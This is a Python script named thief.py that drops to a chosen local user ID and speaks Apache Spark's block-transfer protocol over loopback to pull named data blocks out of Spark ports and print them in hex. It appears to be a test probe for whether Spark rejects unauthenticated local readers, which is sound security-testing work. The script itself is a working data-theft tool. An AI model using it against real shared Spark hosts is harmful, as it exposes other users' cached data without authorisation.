"""A stranger on this machine who asks Spark for what it holds, in its own protocol, over loopback.

    python thief.py USER PORT... -- BLOCK...

Becomes that user, asks each port for each block, and prints what it gets: ``block: hex``, or why nothing.

In front of a message of Spark stand its length in 8 bytes and its type in one (``TransportFrameDecoder``). A
call, ``OpenBlocks``, opens a stream of blocks, which are then asked for one by one (``NettyBlockRpcServer``).
"""

import encodings.idna  # noqa: F401 - before the user changes, who may not be able to read Python's files
import os
import socket
import struct
import sys

HOST = "127.0.0.1"
PATIENCE_SEC = 5.0
#: No answer of a test is longer.
MOST = 16 << 20

CHUNK_REQUEST, CHUNK_SUCCESS, CALL, CALL_RESPONSE = 0, 1, 3, 4
OPEN_BLOCKS, STREAM_HANDLE = 0, 3


class NothingError(Exception):
    """It is not answered."""


def text(value: str) -> bytes:
    data = value.encode()
    return struct.pack(">i", len(data)) + data


def send(connection: socket.socket, kind: int, message: bytes) -> None:
    connection.sendall(struct.pack(">qb", 9 + len(message), kind) + message)


def read(connection: socket.socket, count: int) -> bytes:
    found = b""
    while len(found) < count:
        more = connection.recv(count - len(found))
        if not more:
            raise NothingError("the connection was closed")
        found += more
    return found


def receive(connection: socket.socket) -> tuple[int, bytes]:
    length, kind = struct.unpack(">qb", read(connection, 9))
    if not 9 <= length <= MOST:
        raise NothingError("this is not Spark's protocol")
    return kind, read(connection, length - 9)


def take(port: int, block: str) -> bytes:
    """Return what is in a block."""
    with socket.socket() as connection:
        connection.settimeout(PATIENCE_SEC)
        connection.connect((HOST, port))
        asked = struct.pack(">b", OPEN_BLOCKS) + text("app") + text("0") + struct.pack(">i", 1) + text(block)
        send(connection, CALL, struct.pack(">qi", 1, len(asked)) + asked)
        kind, answer = receive(connection)
        if kind != CALL_RESPONSE or answer[12] != STREAM_HANDLE:
            raise NothingError(f"refused, {kind}: {answer[12:92].decode(errors='replace')!r}")
        (stream,) = struct.unpack(">q", answer[13:21])
        send(connection, CHUNK_REQUEST, struct.pack(">qi", stream, 0))
        kind, answer = receive(connection)
        if kind != CHUNK_SUCCESS:
            raise NothingError("there is no such block")
        return answer[12:]


def main() -> None:
    user, *rest = sys.argv[1:]
    ports, blocks = rest[: rest.index("--")], rest[rest.index("--") + 1 :]
    if int(user) != os.getuid():
        os.setgroups([])
        os.setgid(int(user))
        os.setuid(int(user))
    for port in ports:
        for block in blocks:
            try:
                told = take(int(port), block).hex()
            except NothingError as error:
                told = f"nothing at {port}: {error}"
            except OSError as error:  # another protocol, which waits for more
                sys.stdout.write(f"nothing at {port}: {error}\n")
                break
            sys.stdout.write(f"{block}: {told}\n")


if __name__ == "__main__":
    main()
